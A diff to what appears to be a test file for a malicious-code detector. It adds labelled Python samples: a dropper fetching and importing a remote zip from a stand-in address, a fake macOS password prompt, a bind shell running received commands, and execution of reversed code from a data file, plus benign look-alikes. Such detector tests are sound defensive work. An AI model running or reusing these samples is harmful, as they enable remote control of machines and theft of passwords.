@@ -17,6 +17,52 @@ const RANK: Record<Severity, number> = { low: 0, medium: 1, high: 2, critical: 3
 
 const PROGRAMS: { name: string; least: Severity; rule: string; source: string }[] = [
   {
+    name: 'a zip fetched at run time is unpacked and its directory put on sys.path, then imported',
+    least: 'critical',
+    rule: 'dropper',
+    source: `import urllib.request, zipfile, io, sys
+z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen("https://198.51.100.12/p.zip").read()))
+sys.path.insert(0, "/tmp/p")
+z.extractall("/tmp/p")
+import payload
+payload.run()
+`,
+  },
+  {
+    name: 'a GUI dialog dressed as a macOS password prompt',
+    least: 'high',
+    rule: 'credential-access',
+    source: `import tkinter as tk
+from tkinter import simpledialog
+root = tk.Tk(); root.withdraw()
+pw = simpledialog.askstring("macOS", "macOS wants to make changes. Enter your password:", show="*")
+`,
+  },
+  {
+    name: 'bind shell: what a connection accepted on a port sends is run as a command',
+    least: 'critical',
+    rule: 'download-exec',
+    source: `import socket, subprocess
+s = socket.socket()
+s.bind(("0.0.0.0", 31337))
+s.listen(1)
+c, _ = s.accept()
+while True:
+    d = c.recv(1024)
+    c.send(subprocess.getoutput(d.decode()).encode())
+`,
+  },
+  {
+    name: 'code kept reversed in a data file beside the script, compiled and executed',
+    least: 'high',
+    rule: 'encoded-payload-exec',
+    source: `import sys, types
+m = types.ModuleType("m")
+src = open(sys.argv[0] + ".dat", "rb").read()[::-1]
+exec(compile(src, "<m>", "exec"), m.__dict__)
+`,
+  },
+  {
     name: 'shellcode downloaded, copied into RWX memory from libc.mmap and called through CFUNCTYPE',
     least: 'critical',
     rule: 'native-code',
@@ -299,7 +345,18 @@ for (const program of PROGRAMS) {
 }
 
 test('their benign look-alikes stay below high', () => {
-  const benign = `import os, glob, shutil, pyperclip
+  const benign = `import os, glob, shutil, pyperclip, socket, sys, zipfile
+zipfile.ZipFile("vendor/plugins.zip").extractall("vendor/plugins")
+sys.path.insert(0, "vendor/plugins")
+from tkinter import simpledialog
+name = simpledialog.askstring("Project", "Name of the new project:")
+echo = socket.socket()
+echo.bind(("127.0.0.1", 7000))
+echo.listen(1)
+peer_conn, _ = echo.accept()
+line = peer_conn.recv(1024)
+peer_conn.send(line[::-1])
+print(open("notes.txt").read()[::-1])
 for old in glob.glob(os.path.join("build", "**", "*.o"), recursive=True):
     os.remove(old)
 for top, dirs, names in os.walk(os.path.expanduser("~/.cache/myapp")):
